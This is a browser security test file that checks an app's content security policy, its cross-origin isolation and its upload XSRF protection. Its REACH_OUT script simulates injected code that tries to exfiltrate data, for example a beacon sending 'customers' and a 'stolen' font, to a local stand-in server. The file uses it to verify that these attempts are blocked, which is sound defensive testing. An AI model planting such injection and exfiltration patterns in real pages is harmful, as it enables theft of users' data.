"""What the browser may load and send, and what pages of another port of the same host get from the app.

That every screen works under the policy is tested by every other test here: `open_page` fails on each violation.
"""

import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import free_port, settle
from tests.browser.steps import LONG

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
REACH_OUT = """async url => {
  const add = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  const blocked = new Set();
  document.addEventListener("securitypolicyviolation", event => blocked.add(event.effectiveDirective));
  add("img", {src: `${url}/img.png`});
  add("script", {src: `${url}/script.js`});
  add("iframe", {src: `${url}/frame.html`});
  add("video", {src: `${url}/video.mp4`});
  add("object", {data: `${url}/object.html`});
  add("link", {rel: "stylesheet", href: `${url}/style.css`});
  add("div", {style: `background: url(${url}/background.png)`, textContent: "x"});
  add("script", {textContent: "window.injected = true"});
  document.body.insertAdjacentHTML("beforeend", "<img src='data:,' onerror='window.injected = true'>");
  const form = Object.assign(document.createElement("form"), {action: `${url}/form`, method: "post"});
  document.body.append(form);
  form.submit();
  new FontFace("stolen", `url(${url}/font.woff2)`).load().catch(() => 0);
  navigator.sendBeacon(`${url}/beacon`, "customers");
  try { new Worker(`${url}/worker.js`); } catch { /* not of this origin */ }
  try { new WebSocket(url.replace("http", "ws")); } catch { /* blocked at once */ }
  await fetch(`${url}/fetch`, {mode: "no-cors"}).catch(() => blocked.add("fetch"));
  await new Promise(done => setTimeout(done, 1000));
  return [...blocked];
}"""
REACH_IN = """async url => {
  const loads = (name, attributes) => new Promise(done => {
    const element = Object.assign(document.createElement(name), attributes);
    element.onload = () => done(true);
    element.onerror = () => done(false);
    document.body.append(element);
  });
  const socket = new WebSocket(`${url.replace("http", "ws")}/_stcore/stream`, ["streamlit"]);
  const found = {
    socket: await new Promise(done => { socket.onopen = () => done(true); socket.onerror = () => done(false); }),
    image: await loads("img", {src: `${url}/favicon.png`}),
    script: await loads("script", {src: `${url}/static/js/preload-helper.js`}),
  };
  for (const path of ["/", "/_stcore/health", "/_stcore/host-config", "/_stcore/metrics", "/favicon.png"])
    for (const mode of ["cors", "no-cors"])
      found[`${mode} ${path}`] = await fetch(url + path, {mode}).then(() => true, () => false);
  const frame = Object.assign(document.createElement("iframe"), {src: url});
  document.body.append(frame);
  await new Promise(done => setTimeout(done, 1500));
  return {...found, frames: frame.contentDocument !== null && frame.contentDocument.title === "Streamlit"};
}"""


@pytest.fixture
def elsewhere():
    """Return the address of another server on this host, and the list of what it was asked for."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>Elsewhere</title><a href='/'>link</a>")

        do_POST = do_GET  # noqa: N815 - the base class calls it by this name

        def log_message(self, *what):
            pass

    with ThreadingHTTPServer(("127.0.0.1", free_port()), Handler) as other:
        thread = threading.Thread(target=other.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{other.server_port}", asked
        other.shutdown()
        thread.join()


@pytest.fixture
def page(browser):
    page = browser.new_page()
    yield page
    page.close()


@pytest.mark.parametrize("path", ["/", "/segments", "/_stcore/health", "/_stcore/host-config", "/favicon.png", "/media/none"])
def test_every_answer_has_the_policy(server, page, path):
    headers = page.request.get(server.url + path).headers
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    assert not [name for name in headers if name.startswith("access-control-")]


def test_whatever_is_injected_into_a_page_reaches_no_other_address_and_runs_no_code(server, page, elsewhere):
    url, asked = elsewhere
    page.goto(f"{server.url}/segments")
    settle(page)
    blocked = page.evaluate(REACH_OUT, url)
    assert {"img-src", "script-src-elem", "frame-src", "media-src", "object-src", "style-src-elem", "connect-src"} <= set(blocked)
    assert {"font-src", "form-action", "fetch"} <= set(blocked)
    assert page.evaluate("window.injected") is None
    assert asked == []


def test_a_page_of_another_port_of_the_same_host_learns_nothing_and_opens_no_session(server, page, elsewhere):
    url, _ = elsewhere
    page.goto(url)
    found = page.evaluate(REACH_IN, server.url)
    assert not any(found.values()), found


def test_a_link_on_another_page_opens_the_app(server, page, elsewhere):
    url, _ = elsewhere
    page.goto(url)
    page.evaluate("app => { document.querySelector('a').href = app; }", f"{server.url}/data")
    page.get_by_role("link", name="link").click()
    expect(page.get_by_role("heading", name="Data", exact=True, level=1)).to_be_visible(timeout=LONG)


def test_an_upload_needs_the_token_and_a_page_of_the_app(server):
    """With both, the upload is only refused because no session has that name."""
    with urllib.request.urlopen(f"{server.url}/_stcore/health") as answer:
        cookie = answer.headers["Set-Cookie"].partition(";")[0]
    token = {"Cookie": cookie, "X-Xsrftoken": cookie.partition("=")[2]}
    for headers, status in (
        ({"Origin": server.url}, 403),
        ({"Origin": "http://127.0.0.1:9", **token}, 403),
        ({"Origin": server.url, **token}, 400),
    ):
        request = urllib.request.Request(f"{server.url}/_stcore/upload_file/session/file", data=b"x", method="PUT", headers=headers)
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(request)
        assert refused.value.code == status
        refused.value.close()
